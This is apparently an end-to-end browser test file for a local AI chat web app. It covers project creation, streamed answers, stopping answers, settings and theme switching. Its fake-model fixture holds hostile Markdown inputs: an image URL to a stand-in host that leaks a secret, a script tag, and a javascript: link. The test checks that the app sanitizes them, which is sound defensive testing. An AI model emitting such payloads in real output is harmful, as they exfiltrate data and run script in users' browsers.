import { describe, expect, it } from 'vitest';
import { screenshotThemes } from './support/browser.ts';
import { useWebScenario } from './support/scenario.ts';
import { uniqueName } from './support/web-server.ts';
import { WebUser } from './support/web-user.ts';

/** The answer the fake model writes: Markdown with a code block, a remote image and a script tag. */
const MARKDOWN_TOKENS = [
  'Here is ',
  'the **summary**:\n\n',
  '- first point\n',
  '- second point\n\n',
  '```ts\nconst answer = 42;\n```\n\n',
  '![tracker](https://evil.example/pixel.png?leak=secret) ',
  '<script>window.__pwned = true</script>',
  '[click](javascript:alert(1)) done.',
];

describe('chatting in the browser', () => {
  const scenario = useWebScenario();

  it('creates a project (server validation shown), asks a question and sees the streamed, sanitized answer', async () => {
    const alice = await WebUser.open(scenario.browser, scenario.server.url);
    await alice.waitForConnection('connected');

    // 1. The server's {detail} for a duplicate name is shown in the dialog.
    const taken = uniqueName('Taken');
    expect((await scenario.server.api('POST', '/api/projects', { name: taken })).status).toBe(201);
    await alice.page.reload();
    await alice.page.getByRole('button', { name: 'New project' }).click();
    const dialog = alice.page.getByRole('dialog', { name: 'New project' });
    await dialog.getByRole('button', { name: 'Create project' }).click();
    await dialog.getByRole('alert').filter({ hasText: 'Give the project a name.' }).waitFor();
    await dialog.getByLabel('Name').fill(taken);
    await dialog.getByRole('button', { name: 'Create project' }).click();
    await dialog
      .getByRole('alert')
      .filter({ hasText: `Project with name '${taken}' already exists` })
      .waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await screenshotThemes(alice.page, 'projects');

    // 2. A new project; its page starts empty.
    const name = uniqueName('Handbook');
    await alice.projects.create(name, 'Company handbook and policies');
    await alice.page.getByText('No documents yet').waitFor();
    await alice.page.getByText('No chats yet').waitFor();
    await screenshotThemes(alice.page, 'project-empty');

    // 2b. A project temperature override, set with the keyboard in the Project settings dialog.
    await alice.page.getByRole('button', { name: 'Project settings' }).click();
    const settings = alice.page.getByRole('dialog', { name: 'Project settings' });
    await settings.getByRole('checkbox', { name: /^Temperature: Use the global default/ }).press('Space');
    await settings.getByRole('spinbutton', { name: 'Temperature' }).fill('0.25');
    await screenshotThemes(alice.page, 'project-settings');
    await settings.getByRole('button', { name: 'Save' }).click();
    await alice.page.getByText('Overrides: temperature 0.25').waitFor();

    // 3. A question: the typing indicator shows until the first token, then the answer streams.
    scenario.server.ollama.queue({ tokens: MARKDOWN_TOKENS, firstTokenDelayMs: 700, tokenDelayMs: 40 });
    await alice.project.startChat('What does the handbook say?');
    await alice.page.getByRole('status', { name: 'The assistant is writing' }).waitFor();
    await alice.chat.waitForAnswer('complete');

    // The project's override reached the model.
    expect(scenario.server.ollama.lastChat().body.options.temperature).toBe(0.25);
    const answer = alice.chat.lastAnswer();
    expect(await answer.locator('strong').textContent()).toBe('summary');
    expect(await answer.locator('li').allTextContents()).toEqual(['first point', 'second point']);
    expect(await answer.locator('pre code').textContent()).toContain('const answer = 42;');
    // No remote image is loaded, no script runs, no javascript: link survives.
    expect(await answer.locator('img').count()).toBe(0);
    expect(await answer.locator('.blocked-image').textContent()).toContain('tracker');
    expect(await answer.locator('script').count()).toBe(0);
    expect(await alice.page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
    for (const href of await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))) {
      expect(href ?? '').not.toMatch(/^javascript:/i);
    }
    // The question appears once, the answer once; the saved history agrees after a reload.
    expect(await alice.page.locator('article.message-user').count()).toBe(1);
    expect(await alice.chat.answers().count()).toBe(1);
    const chatId = Number(new URL(alice.page.url()).pathname.split('/').pop());
    const saved = await scenario.server.api('GET', `/api/chats/${chatId}`);
    expect(saved.body.messages.map((message: { role: string; status: string }) => [message.role, message.status])).toEqual([
      ['user', 'complete'],
      ['assistant', 'complete'],
    ]);
    expect(saved.body.messages[1].content).toBe(MARKDOWN_TOKENS.join(''));
    await screenshotThemes(alice.page, 'chat');

    // 4. The theme toggle picks dark over the system's light, and the choice survives a reload.
    await alice.page.getByRole('button', { name: 'Switch to dark theme' }).click();
    expect(await alice.page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
    await alice.page.reload();
    expect(await alice.page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
    await alice.page.getByRole('button', { name: 'Switch to light theme' }).click();
    expect(await alice.page.evaluate(() => document.documentElement.dataset.theme)).toBe('light');
    await alice.page.evaluate(() => localStorage.removeItem('daa-theme'));

    await alice.chat.waitForAnswer('complete');
    expect(await alice.chat.answers().count()).toBe(1);
    expect(await alice.chat.lastAnswer().locator('pre code').textContent()).toContain('const answer = 42;');
    // Failed HTTP requests are logged by the browser itself; anything else is an app error.
    expect(scenario.browser.consoleErrors.filter((text) => !text.startsWith('Failed to load resource'))).toEqual([]);
  });

  it('stops a long answer: Stop aborts it, the partial answer is kept as stopped', async () => {
    const { body: project } = await scenario.server.api('POST', '/api/projects', { name: uniqueName('Stop') });
    const { body: chat } = await scenario.server.api('POST', '/api/chats', { project_id: project.id });
    const bob = await WebUser.open(scenario.browser, scenario.server.url, `/chats/${chat.id}`);
    await bob.waitForConnection('connected');

    scenario.server.ollama.queue({ tokenCount: 500, tokenDelayMs: 20 });
    await bob.chat.ask('Write a very long answer');
    await bob.chat.waitForAnswerText('t5 ');
    await bob.chat.stopButton.click();
    await bob.chat.waitForAnswer('stopped');
    await bob.chat.sendButton.waitFor();

    const shown = (await bob.chat.lastAnswerText()).trim().split(/\s+/);
    expect(shown.length).toBeGreaterThanOrEqual(5);
    expect(shown.length).toBeLessThan(500);
    // The model request was really cancelled upstream.
    await scenario.server.ollama.lastChat().settled;
    expect(scenario.server.ollama.lastChat().hungUp).toBe(true);
    const saved = await scenario.server.api('GET', `/api/chats/${chat.id}`);
    const assistant = saved.body.messages.at(-1);
    expect(assistant.status).toBe('stopped');
    expect(assistant.content.trim().split(/\s+/)).toEqual(shown);
    expect(await bob.page.locator('.badge-stopped').textContent()).toBe('Stopped');
  });

  it('settings: shows the defaults, refuses an impossible overlap, saves a change', async () => {
    const user = await WebUser.open(scenario.browser, scenario.server.url, '/settings');
    await user.waitForConnection('connected');
    await user.page.getByLabel('Chat model').waitFor();
    await screenshotThemes(user.page, 'settings');

    const chunkSize = user.page.getByLabel('Passage size (characters)');
    await user.page.getByLabel('Passage overlap (characters)').fill(await chunkSize.inputValue());
    await user.page.getByText('The overlap must be smaller than the passage size.').waitFor();
    expect(await user.page.getByRole('button', { name: 'Save settings' }).isDisabled()).toBe(true);
    await user.page.getByRole('button', { name: 'Undo changes' }).click();

    await user.page.getByLabel('Temperature').fill('0.3');
    await user.page.getByRole('button', { name: 'Save settings' }).click();
    await user.page.getByText('Settings saved.').waitFor();
    expect((await scenario.server.api('GET', '/api/settings')).body.default_temperature).toBe(0.3);
  });
});
